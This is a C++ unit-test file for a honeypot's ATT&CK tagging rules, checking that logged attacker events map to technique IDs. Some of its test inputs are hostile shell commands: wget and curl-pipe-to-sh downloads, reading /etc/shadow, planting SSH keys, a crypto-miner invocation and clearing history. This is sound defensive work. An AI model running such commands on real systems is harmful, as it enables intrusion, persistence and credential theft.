// ATT&CK tagging: the rule-table syntax, what the shipped table gives real events, and the
// bounds on hostile field text.
#include "intel/attack/attack_tags.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "store/repository.hpp"

namespace decnet::intel::attack {
namespace {

using ::testing::HasSubstr;

std::string fields(std::initializer_list<std::pair<const char*, std::string>> kv) {
    nlohmann::json object = nlohmann::json::object();
    for (const auto& [k, v] : kv) object[k] = v;
    return object.dump();
}

std::string command_tags(const std::string& cmd) {
    return RuleSet::builtin().tags("ssh", "command", fields({{"cmd", cmd}}));
}

TEST(AttackTags, LoginsAreBruteForceAndSuccessfulOnesValidAccounts) {
    const auto& rules = RuleSet::builtin();
    EXPECT_EQ(rules.tags("ssh", "auth", fields({{"status", "failed"}})), "T1110");
    EXPECT_EQ(rules.tags("ssh", "auth", fields({{"status", "success"}})), "T1078,T1110");
    EXPECT_EQ(rules.tags("redis", "auth", fields({{"password", "x"}})), "T1110");
    EXPECT_EQ(rules.tags("ftp", "auth_attempt", "{}"), "T1110");
    EXPECT_EQ(rules.tags("telnet", "auth", fields({{"status", "success"}})), "T1021,T1078,T1110");
    EXPECT_EQ(rules.tags("ssh", "connect", "{}"), "");
    EXPECT_EQ(rules.tags("ssh", "forward_request", "{}"), "T1090,T1572");
}

TEST(AttackTags, CommandLinesCarryWhatTheyAskFor) {
    EXPECT_EQ(command_tags("uname -a"), "T1059.004,T1082");
    EXPECT_EQ(command_tags("cd /tmp; wget http://x/bot.sh; chmod +x bot.sh; ./bot.sh"),
              "T1059.004,T1105,T1222.002");
    EXPECT_EQ(command_tags("/usr/bin/curl -s http://x | sh"), "T1059.004,T1105");
    EXPECT_EQ(command_tags("cat /etc/shadow"), "T1003.008,T1059.004");
    EXPECT_EQ(command_tags("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"), "T1059.004,T1098.004");
    EXPECT_EQ(command_tags("./xmrig -o stratum+tcp://pool:3333"), "T1059.004,T1496");
    EXPECT_EQ(command_tags("history -c"), "T1059.004,T1070.003");
    EXPECT_EQ(command_tags("echo hello"), "T1059.004");
    // Whole words only: a file named "identity" is not `id`, "psql" is not `ps`.
    EXPECT_EQ(command_tags("cat identity"), "T1059.004");
    EXPECT_EQ(command_tags("psql -l"), "T1059.004");
    EXPECT_EQ(command_tags("ID; WHOAMI"), "T1033,T1059.004");  // case-insensitive
}

TEST(AttackTags, ServiceSpecificRules) {
    const auto& rules = RuleSet::builtin();
    EXPECT_EQ(rules.tags("redis", "command",
                         fields({{"cmd", "CONFIG"}, {"args", R"(["SET","dir","/root/.ssh"])"}})),
              "T1098.004");
    EXPECT_EQ(rules.tags("redis", "command", fields({{"cmd", "FLUSHALL"}})), "T1485");
    EXPECT_EQ(rules.tags("redis", "command", fields({{"cmd", "INFO"}})), "T1082");
    EXPECT_EQ(rules.tags("mysql", "ransom_note", "{}"), "T1657");
    EXPECT_EQ(rules.tags("postgres", "exploit", "{}"), "T1190");
    EXPECT_EQ(rules.tags("http", "request", fields({{"path", "/.env"}})), "T1190,T1552.001");
    EXPECT_EQ(rules.tags("http", "request", fields({{"path", "/index.html"}})), "");
    EXPECT_EQ(rules.tags("tftp", "request", fields({{"op", "WRQ"}})), "T1105");
    EXPECT_EQ(rules.tags("tftp", "request", fields({{"op", "RRQ"}})), "");
    EXPECT_EQ(rules.tags("snmp", "get_request", "{}"), "T1602.001");
}

TEST(AttackTags, WindowsMailAndIcsEvents) {
    const auto& rules = RuleSet::builtin();
    EXPECT_EQ(rules.tags("smb", "auth", fields({{"status", "failed"}})), "T1110");
    EXPECT_EQ(rules.tags("smb", "tree_connect", fields({{"share", "\\\\FS01\\ADMIN$"}})),
              "T1021.002");
    EXPECT_EQ(rules.tags("smb", "tree_connect", fields({{"share", "Finance"}})), "");
    EXPECT_EQ(rules.tags("smb", "coercion_attempt", "{}"), "T1187");
    EXPECT_EQ(rules.tags("rdp", "auth", "{}"), "T1021.001,T1110");
    EXPECT_EQ(rules.tags("vnc", "auth_response", "{}"), "T1021.005,T1110");
    EXPECT_EQ(rules.tags("smtp", "vrfy", "{}"), "T1589.002");
    EXPECT_EQ(
        rules.tags("conpot", "modbus_request", fields({{"name", "read_device_identification"}})),
        "T0888");
    EXPECT_EQ(rules.tags("conpot", "modbus_request", fields({{"name", "read_coils"}})), "");
    EXPECT_EQ(rules.tags("conpot", "s7_control", "{}"), "T0858");
}

TEST(AttackTags, HostileFieldsAreBoundedAndNeverThrow) {
    const auto& rules = RuleSet::builtin();
    // Not JSON, not an object, a non-string field: no condition holds, nothing throws.
    EXPECT_EQ(rules.tags("ssh", "command", "not json"), "T1059.004");
    EXPECT_EQ(rules.tags("ssh", "command", "[1,2]"), "T1059.004");
    EXPECT_EQ(rules.tags("ssh", "command", R"({"cmd":42})"), "T1059.004");
    // Only the first kMaxScannedBytes are read.
    const std::string padding(kMaxScannedBytes, 'a');
    EXPECT_EQ(command_tags(padding + " wget x"), "T1059.004");
    EXPECT_EQ(command_tags("wget x " + padding), "T1059.004,T1105");
    // A megabyte of separators and near-misses stays linear.
    std::string noise;
    for (int i = 0; i < 100'000; ++i) noise += "wgetx;";
    EXPECT_EQ(command_tags(noise), "T1059.004");
}

TEST(AttackTags, TagFillsTheRow) {
    store::LogRecord row;
    row.service = "ssh";
    row.event_type = "command";
    row.fields = fields({{"cmd", "nmap -sS 10.0.0.0/24"}});
    RuleSet::builtin().tag(row);
    EXPECT_EQ(row.tags, "T1046,T1059.004");
    auto options = tagging_ingester_options();
    ASSERT_TRUE(static_cast<bool>(options.enrich));
    row.tags.clear();
    options.enrich(row);
    EXPECT_EQ(row.tags, "T1046,T1059.004");
}

TEST(AttackTags, TableSyntax) {
    const auto rules = RuleSet::parse(
        "# comment\n\nT1110 | Brute Force | *:auth\n"
        "T1105 | Ingress | ssh:command telnet:command | cmd~wget  # trailing comment\n"
        "T1059.004 | Shell | ssh:* | kind=shell,exec\n");
    EXPECT_EQ(rules.size(), 3u);
    EXPECT_EQ(rules.tags("x", "auth", "{}"), "T1110");
    EXPECT_EQ(rules.tags("ssh", "session_start", R"({"kind":"EXEC"})"), "T1059.004");
    EXPECT_EQ(rules.tags("ssh", "session_start", R"({"kind":"sftp"})"), "");
    EXPECT_EQ(rules.techniques().size(), 3u);
    for (const char* bad :
         {"T1110 | Brute Force", "X1 | n | a:b", "T1110 | n | auth", "T1110 | n | a:b | cmd",
          "T1110 | n | a:b | cmd~", "T1110|n|a:b|c*x", "T1110 | n | a:b | c=d | extra"})
        EXPECT_THROW(RuleSet::parse(bad), std::invalid_argument) << bad;
    try {
        RuleSet::parse("T1110 | n | a:b\nbad line\n");
        FAIL();
    } catch (const std::invalid_argument& e) {
        EXPECT_THAT(e.what(), HasSubstr("line 2"));
    }
}

TEST(AttackTags, TheShippedTableNamesEachTechniqueOnce) {
    const auto techniques = RuleSet::builtin().techniques();
    EXPECT_GT(techniques.size(), 30u);
    for (const auto& t : techniques) {
        EXPECT_FALSE(t.name.empty()) << t.id;
        for (const auto& other : techniques) {
            if (other.id == t.id) {
                EXPECT_EQ(other.name, t.name);
            }
        }
    }
}

}  // namespace
}  // namespace decnet::intel::attack
